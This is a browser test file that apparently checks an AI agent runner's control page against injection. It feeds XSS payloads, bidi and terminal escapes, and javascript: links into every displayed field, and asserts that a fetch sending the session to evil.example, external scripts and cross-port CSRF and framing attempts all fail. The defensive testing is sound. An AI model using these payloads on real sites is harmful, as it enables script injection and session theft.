import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, it, onTestFinished } from 'vitest';
import type { ControlPorts } from '../../src/control/ports.ts';
import { RUN, STATUS } from '../control/harness.ts';
import { type OpenedPage, openPageDoor, visitPage } from '../control/page-harness.ts';
import { CHROMIUM, openPage } from '../support/browser.ts';

/** Another server on 127.0.0.1, as a run's dev server is one; it keeps what it was sent. */
async function anotherServer(html: (own: string) => string) {
  const seen: { url: string; headers: IncomingHttpHeaders }[] = [];
  const server = createServer((request, response) => {
    seen.push({ url: request.url ?? '', headers: request.headers });
    response.writeHead(200, { 'content-type': 'text/html' });
    response.end(html(origin()));
  });
  const origin = () => `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  return { origin: origin(), seen };
}

const NASTY =
  '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>[a](javascript:window.pwned=1) \u202eevil\u001b[2J';

/** Whatever the page shows of others. */
function nastyPorts(): Partial<ControlPorts> {
  const run = { ...RUN, agent: NASTY, status: 'running' as const, endedAt: null, result: NASTY };
  const question = {
    approvalId: `apr"${NASTY}`,
    callId: NASTY,
    tool: NASTY,
    what: NASTY,
    workdir: NASTY,
    reason: NASTY,
    opens: 'outside_sandbox' as const,
    prefix: ['a', NASTY],
    forRun: true,
    subject: '',
    expiresAt: '2030-01-01T00:00:00.000Z',
    runId: NASTY,
    agent: NASTY,
  };
  return {
    status: () => ({
      ...STATUS,
      label: NASTY,
      orgId: NASTY,
      meshUrl: `javascript:alert(1)//${NASTY}`,
      paused: [NASTY],
      loops: { [NASTY]: { doing: NASTY, since: 0 } },
      connection: { ...STATUS.connection, doing: NASTY, through: NASTY },
      running: [{ runId: NASTY, agent: NASTY, step: 1, seconds: 1 }],
    }),
    listApprovals: () => [question],
    readRun: () => run,
    runEvents: async function* () {
      let runSequence = 0;
      const event = (type: string, payload: unknown) => {
        runSequence += 1;
        return { type, runSequence, payload };
      };
      yield event('run_started', { agent: NASTY, model: NASTY, workspace: NASTY, attempt: 1 });
      yield event('user_message', { messageId: 'u', text: NASTY });
      yield { type: 'assistant_message_delta', messageId: 'a', offset: 0, text: NASTY };
      yield { type: 'assistant_thinking_delta', messageId: 'a', offset: 0, text: NASTY };
      yield event('tool_call', { callId: 'c', messageId: 'a', step: 1, name: NASTY, arguments: NASTY });
      yield event('tool_result', { callId: 'c', name: NASTY, status: 'failed', text: NASTY, durationMs: 1 });
      yield event('file_change', {
        callId: 'c',
        workspace: NASTY,
        path: NASTY,
        kind: 'move',
        movedTo: NASTY,
        diff: `@@ -1 +1 @@\n-${NASTY}\n+${NASTY}`,
      });
      yield event('approval_requested', question);
      yield event('approval_resolved', {
        approvalId: question.approvalId,
        decision: 'no',
        words: NASTY,
        by: NASTY,
      });
      yield event('error', { code: NASTY, message: NASTY });
      yield event('run_completed', {
        status: 'failed',
        result: NASTY,
        usage: RUN.usage,
        iterations: 1,
        error: { code: NASTY, message: NASTY },
      });
    },
    history: () => ({ runs: [{ ...run, prompt: NASTY }], next: null }),
    usage: () => [{ day: '2026-01-01', model: NASTY, usage: { ...RUN.usage, totalTokens: 1 } }],
    logs: async function* () {
      yield {
        type: 'log',
        level: 'info',
        time: RUN.acceptedAt,
        message: NASTY,
        fields: { [NASTY]: NASTY, runId: NASTY },
      } as const;
    },
  };
}

describe.skipIf(CHROMIUM === undefined)('in a real browser (skipped without Chromium)', () => {
  it('94 what a model, a file, a device or a log says is shown and never run, nor followed', async () => {
    const { page, origin, requested, complaints } = await visitPage(nastyPorts());
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => void dialogs.push(dialog.message()));
    for (const [view, shows] of [
      ['now', '.question'],
      ['run/run_1', '.ended'],
      ['history', '.history li'],
      ['usage', 'table'],
      ['log', '.log li'],
    ]) {
      await page.goto(`${origin}/#${view}`);
      await page
        .locator(shows ?? '')
        .first()
        .waitFor();
      const text = await page.locator('main').innerText();
      expect([view, text.includes('<img src=x onerror="window.pwned=1"><script>')]).toEqual([view, true]);
      expect([view, text.includes('\\u{202e}evil\\u{1b}[2J'), /[\u202e\u001b]/.test(text)]).toEqual([
        view,
        true,
        false,
      ]);
      const foreign = 'document.querySelectorAll("main img, main script, main iframe, main object").length';
      expect([view, await page.evaluate(foreign)]).toEqual([view, 0]);
      // The only ways out of a text are to our own views.
      const links = await page
        .locator('a')
        .evaluateAll((all) => all.map((one) => String(one.getAttribute('href'))));
      expect([
        view,
        links.filter((link) => !/^#(now|history|usage|log|run\/[\w%.!~*'()-]+)$/.test(link)),
      ]).toEqual([view, []]);
    }
    expect(await page.title()).toContain('\\u{202e}');
    expect(await page.evaluate('window.pwned')).toBeUndefined();
    expect([dialogs, complaints]).toEqual([[], []]);
    expect(requested.filter((address) => !address.startsWith(`${origin}/`))).toEqual([]);
  });

  it('94 runs no script and no style that is not its own, should one come into it', async () => {
    const { page } = await visitPage();
    const attempt = (code: string) =>
      page.evaluate(
        `(async () => { try { ${code} } catch (error) { return error.name; } return 'done'; })()`,
      );
    expect(await attempt('document.body.innerHTML = "<b>x</b>"')).toBe('TypeError');
    expect(await attempt('document.write("x")')).toBe('TypeError');
    expect(
      await attempt(
        'const made = document.createElement("script"); made.src = "https://evil.example/x.js"; document.body.append(made)',
      ),
    ).toBe('TypeError');
    expect(await attempt('await fetch("https://evil.example/?" + sessionStorage.session)')).toBe('TypeError');
    expect(
      await attempt(
        'await new Promise((resolve) => setTimeout(resolve, 0)); setTimeout("window.pwned = 1", 0)',
      ),
    ).toMatch(/Error$/);
    const image =
      'await new Promise((resolve, reject) => { const made = new Image(); made.onload = resolve; made.onerror = () => reject(new TypeError()); made.src = "https://evil.example/x.png"; })';
    expect(await attempt(image)).toBe('TypeError');
  });

  it('93 its token is in no address, history entry, Referer or header that leaves it', async () => {
    const elsewhere = await anotherServer(() => 'elsewhere');
    const opened = await openPageDoor();
    const { page } = await openPage();
    const sent: Record<string, string>[] = [];
    page.on('request', (request) =>
      sent.push({ ...request.headers(), url: request.url(), body: request.postData() ?? '' }),
    );
    await page.goto(opened.url);
    await page.getByText('waiting for frames').waitFor();
    expect(await page.evaluate('location.href')).toBe(`${opened.origin}/`);
    await page.goto(elsewhere.origin);
    await page.goBack();
    await page.getByText('waiting for frames').waitFor();
    expect(await page.evaluate('location.href')).toBe(`${opened.origin}/`);
    expect(elsewhere.seen[0]?.headers.referer).toBeUndefined();
    expect(JSON.stringify(elsewhere.seen)).not.toContain(opened.token);
    const carrying = sent.filter((one) => JSON.stringify(one).includes(opened.token));
    expect(carrying.map(({ url }) => url)).toEqual([`${opened.origin}/session`]);
    expect(sent.filter(({ referer }) => referer?.includes('#'))).toEqual([]);
  });

  it('92 a page of another port of this machine reads, orders and frames nothing, and is sent no secret', async () => {
    const orders: string[] = [];
    const count = (name: string) => () => void orders.push(name);
    const opened = await visitPage({
      answerApproval: count('answer'),
      cancel: count('cancel'),
      pause: () => [`${orders.push('pause')}`],
    });
    await opened.page.getByText('waiting for frames').waitFor();
    const attempts = await otherPage(opened);
    expect(attempts).toEqual({
      read: 'TypeError',
      readOpaque: 0,
      form: 'sent',
      frame: 'empty',
      script: 'error',
      popup: true,
    });
    expect(orders).toEqual([]);
  });
});

/** What a page on another port of 127.0.0.1 gets when it tries, in the browser in which the owner's page is open. */
async function otherPage({
  page,
  origin,
}: OpenedPage & { page: Awaited<ReturnType<typeof openPage>>['page'] }) {
  const other = await anotherServer(
    () => '<!doctype html><title>dev server</title><iframe name=sink></iframe>',
  );
  const tab = await page.context().newPage();
  await tab.goto(other.origin);
  const result = await tab.evaluate(`(async () => {
    const target = ${JSON.stringify(origin)};
    const read = await fetch(target + '/api/status', { credentials: 'include' }).then(() => 'read', (error) => error.name);
    const opaque = await fetch(target + '/api/pause', { method: 'POST', mode: 'no-cors', body: '{}' }).catch(() => ({ status: 0 }));
    const form = Object.assign(document.createElement('form'), { method: 'post', action: target + '/api/pause', enctype: 'text/plain', target: 'sink' });
    document.body.append(form);
    form.submit();
    const frame = document.createElement('iframe');
    frame.src = target + '/';
    const framed = new Promise((resolve) => { frame.onload = () => { try { resolve(frame.contentDocument === null ? 'empty' : 'readable'); } catch { resolve('empty'); } }; });
    document.body.append(frame);
    const script = await new Promise((resolve) => {
      const made = Object.assign(document.createElement('script'), { src: target + '/page.js' });
      made.onload = () => resolve('ran');
      made.onerror = () => resolve('error');
      document.body.append(made);
    });
    const popup = open(target + '/');
    const cut = () => { try { return popup === null || popup.closed || popup.document === undefined; } catch { return true; } };
    for (let n = 0; n < 100 && !cut(); n += 1) await new Promise((resolve) => setTimeout(resolve, 100));
    return { read, readOpaque: opaque.status, form: 'sent', frame: await framed, script, popup: cut() };
  })()`);
  const frames = tab.frames().filter((frame) => frame !== tab.mainFrame());
  expect(frames.map((frame) => frame.url().split('/')[0])).toEqual(['chrome-error:', 'chrome-error:']);
  // No cookie: a browser would send it to every port of this machine.
  expect(
    other.seen.filter(({ headers }) => headers.cookie !== undefined || headers.authorization !== undefined),
  ).toEqual([]);
  return result;
}
